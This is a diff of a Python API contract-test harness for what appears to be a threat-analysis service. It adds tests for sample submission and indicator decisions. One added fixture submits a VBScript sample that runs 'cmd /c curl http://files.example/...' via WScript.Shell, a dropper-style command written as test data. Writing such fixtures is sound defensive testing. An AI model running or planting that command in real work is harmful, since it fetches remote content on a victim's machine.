@@ -4,7 +4,7 @@ import os
 import time
 
 from contract import Contract
-from server import HERE, PASSWORD, check
+from server import HERE, PASSWORD, Raw, check, wait_for
 
 TOMORROW = time.strftime("%Y-%m-%dT%H:%M:%SZ", time.gmtime(time.time() + 86400))
 DOCUMENT = os.path.join(HERE, "../../../docs/openapi.json")
@@ -37,6 +37,8 @@ class World:
     def __init__(self, site):
         self.site = site
         self.contract = Contract.load(DOCUMENT)
+        site.config["samples"] = {"reserved": True}
+        self.submitters = {}
         site.write(150, host="host{}")
         for log in "ab":
             site.write(60, log, host=log + "{}")
@@ -109,6 +111,10 @@ class World:
         values = {"id": alert if "/alerts/" in operation.path else incident}
         make = getattr(self, "body_" + operation.id, None)
         body = make(alert, incident, values) if make else None
+        if "/samples/{id}" in operation.path:
+            values["id"] = self.sample(tenant)
+            if operation.id == "decideSampleIndicators":
+                body = self.decision(values["id"])
         if "/mutes/" in operation.path:
             values["id"] = self.mute(tenant)
         for parameter in operation.path_parameters():
@@ -122,6 +128,26 @@ class World:
         schema = parameter["schema"]
         return schema.get("enum", [schema.get("minimum", 1)])[0] if (
             schema["type"] != "string" or "enum" in schema) else "evil"
+
+    def sample(self, tenant):
+        """A script of its own that is analysed and offers indicators."""
+        if tenant not in self.submitters:
+            self.submitters[tenant] = self.site.token_client(
+                self.site.planted_token("submitter", "analyst", 3, tenant=tenant))
+        client = self.submitters[tenant]
+        made = client.ok("POST", "/v1/samples?name=a.vbs", self.body_submitSample(0, 0, {})).json
+        wait_for(lambda: client.ok("GET", "/v1/samples/" + made["id"]).json["state"] == "done",
+                 "a sample")
+        return made["id"]
+
+    def decision(self, sample):
+        rows = self.admin.ok("GET", f"/v1/samples/{sample}/indicators").json["items"]
+        return {"numbers": [rows[0]["number"]], "state": "rejected"}
+
+    def body_submitSample(self, alert, incident, values):
+        self.used += 1
+        return Raw(b'CreateObject("WScript.Shell").Run "cmd /c curl http://files.example/%d"\n'
+                   % self.used)
 
     def mute(self, tenant):
         wish = {"kind": "silence", "rules": ["r"], "reason": "test", "owner": "o",
